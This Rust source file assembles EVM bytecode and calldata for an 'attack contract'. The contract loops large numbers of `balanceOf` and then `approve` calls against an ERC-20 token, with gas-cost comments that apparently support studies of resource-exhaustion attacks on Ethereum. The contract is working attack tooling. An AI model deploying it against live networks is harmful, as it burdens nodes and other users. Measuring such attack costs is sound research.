//! The attack contract: loops calling the token, first `balanceOf`, then
//! `approve`, on one shared counter.
//!
//! Calldata is four words:
//!
//! | word | meaning |
//! |---|---|
//! | 0 | `balanceof_calls`: how many `balanceOf(address(i))` calls |
//! | 1 | `start`: the first `i` |
//! | 2 | the token's address |
//! | 3 | `approve_calls`: how many `approve(address(i), i)` calls after them |
//!
//! The counter `i` lives in `MEM[32..64]`, which is also the first argument
//! word: the arguments are the 36 bytes at `MEM[28..64]` (selector in the
//! low 4 bytes of `MEM[0..32]`, then `address(i)`) for `balanceOf`, and the
//! 68 bytes at `MEM[28..96]` (plus `amount = i` in `MEM[64..96]`) for
//! `approve`. Each loop is a do-while guarded by a zero check, counting
//! down with `PUSH1 1 SWAP1 SUB DUP1 ISZERO ISZERO JUMPI`. Call results are
//! ignored, as in the studies. The token's address must be warm (in the
//! transaction's access list) for the per-call figures of [`crate::erc20`].
//!
//! `approve(address(i), i)` with `i = 0` stores zero into a zero slot (a
//! no-op SSTORE), so approve workloads start at `i >= 1`.

use alloy_primitives::{Address, Bytes, U256};

use crate::asm::{op, Asm};
use crate::erc20::{APPROVE, BALANCE_OF};

/// The attack contract's runtime bytecode.
pub fn attack_code() -> Bytes {
    let mut a = Asm::new();
    // ---- setup ------------------------------------------------------------ stack
    a.push1(0x20).op(op::CALLDATALOAD); //                             [start]
    a.push1(0x20).op(op::MSTORE); //            MEM[32..64] = i = start []
    a.push1(0x40).op(op::CALLDATALOAD); //                             [token]

    // ---- balanceOf loop ----------------------------------------------------
    a.push(&BALANCE_OF).op(op::PUSH0).op(op::MSTORE); // MEM[28..32] = selector
    a.op(op::PUSH0).op(op::CALLDATALOAD); //                           [token, n]
    a.op(op::DUP1)
        .op(op::ISZERO)
        .push_label("balance_done")
        .op(op::JUMPI);
    a.label("balance_loop"); //                                        [token, n]
    call_token(&mut a, 36);
    count_down(&mut a, "balance_loop");
    a.label("balance_done").op(op::POP); //                            [token]

    // ---- approve loop -----------------------------------------------------
    a.push(&APPROVE).op(op::PUSH0).op(op::MSTORE); // MEM[28..32] = selector
    a.push1(0x60).op(op::CALLDATALOAD); //                             [token, n]
    a.op(op::DUP1)
        .op(op::ISZERO)
        .push_label("approve_done")
        .op(op::JUMPI);
    a.label("approve_loop"); //                                        [token, n]
    a.push1(0x20).op(op::MLOAD).push1(0x40).op(op::MSTORE); // MEM[64..96] = amount = i
    call_token(&mut a, 68);
    count_down(&mut a, "approve_loop");
    a.label("approve_done").op(op::STOP);

    a.finish().into()
}

/// `CALL(gas, token, 0, 28, args_size, 0, 0)`, result dropped, then
/// `i += 1`. 123 gas plus the callee (`CALL` to a warm address costs 100).
fn call_token(a: &mut Asm, args_size: u8) {
    a.op(op::PUSH0).op(op::PUSH0); //           retSize, retOffset     [token, n, 0, 0]
    a.push1(args_size).push1(28); //            argsSize, argsOffset   [.., 0, 0, size, 28]
    a.op(op::PUSH0); //                         value                  [.., size, 28, 0]
    a.op(op::DUP7); //                          token                  [.., 28, 0, token]
    a.op(op::GAS).op(op::CALL).op(op::POP); //                         [token, n]
    a.push1(0x20).op(op::MLOAD).push1(1).op(op::ADD); //               [token, n, i+1]
    a.push1(0x20).op(op::MSTORE); //            i += 1                 [token, n]
}

/// `n -= 1`, loop while non-zero. 31 gas.
fn count_down(a: &mut Asm, label: &str) {
    a.push1(1).op(op::SWAP1).op(op::SUB); //                           [token, n-1]
    a.op(op::DUP1).op(op::ISZERO).op(op::ISZERO); //                   [token, n-1, more]
    a.push_label(label).op(op::JUMPI); //                              [token, n-1]
}

/// The attack contract's calldata.
pub fn attack_calldata(
    token: &Address,
    start: u64,
    balanceof_calls: u64,
    approve_calls: u64,
) -> Bytes {
    let mut data = Vec::with_capacity(128);
    data.extend_from_slice(&U256::from(balanceof_calls).to_be_bytes::<32>());
    data.extend_from_slice(&U256::from(start).to_be_bytes::<32>());
    data.extend_from_slice(&U256::from_be_slice(token.as_slice()).to_be_bytes::<32>());
    data.extend_from_slice(&U256::from(approve_calls).to_be_bytes::<32>());
    data.into()
}
